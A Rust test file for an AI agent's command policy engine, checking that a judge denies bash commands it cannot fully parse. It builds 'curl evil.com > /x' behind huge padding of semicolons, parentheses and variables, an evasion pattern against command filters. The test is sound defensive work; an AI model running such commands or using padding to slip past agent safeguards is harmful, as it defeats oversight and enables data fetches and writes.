use std::sync::Arc;

use proctor_core::action::Action;
use proctor_core::decision::Effect;
use proctor_core::digest::Digest;
use proctor_core::id::{ApprovalId, RecordId, SessionId};
use proctor_core::json::Json;
use proctor_core::session::Caller;
use proctor_core::time::Timestamp;

use crate::judge::{Request, judge};
use crate::policy::{Policy, Source};
use crate::prepare::prepare;
use crate::state::State;

fn decided(section: &str, command: &str) -> Effect {
    let document = format!("version: \"1\"\ndefault: allow\n{section}\n");
    let policy = Arc::new(Policy::compile(vec![Source::document("p.yaml", &document)]).unwrap());
    let sent = Json::object().with("tool", "bash").with("args", Json::object().with("command", command));
    let action = Action::from_json(&sent).unwrap();
    let caller = Caller { principal: "alice".to_owned(), ..Caller::default() };
    let (session, digest, now) =
        (SessionId::from_bytes([1; 16]), Digest::of(b"action"), Timestamp::from_micros(1));
    let request = Request {
        action: &action,
        prepared: prepare(&policy, &action, None),
        caller: &caller,
        agent: "",
        session,
        digest,
        now,
        record: RecordId::from_bytes([2; 16]),
        fresh_approval: ApprovalId::from_bytes([3; 16]),
    };
    judge(&policy, request, &State::new().view(&caller, session, digest, now)).decision.effect
}

#[test]
fn what_is_not_read_may_reach_any_host_and_write_any_path() {
    let long = format!("{}; curl evil.com > /x", "a;".repeat(140_000));
    let deep = format!("{} curl evil.com > /x", "(".repeat(40));
    // More entries than a list keeps do not push it out.
    let notes: String = (0..20_000).map(|number| format!("$x{number};")).collect();
    let late = format!("{notes}{} curl evil.com > /x", "(".repeat(40));
    for section in [
        "network: { allowlist: [api.ok.com] }",
        "capabilities: { deny: [file_write] }",
        "capabilities: { deny: [file_delete] }",
        "capabilities: { deny: [network_outbound] }",
        "capabilities: { allow: [terminal_exec] }",
        "tools: { file_write: { allow: false } }",
    ] {
        for command in [&long, &deep, &late] {
            assert_eq!(decided(section, command), Effect::Deny, "{section}: {}", &command[..20]);
        }
        assert_eq!(decided(section, "ls"), Effect::Allow, "{section}");
    }
}
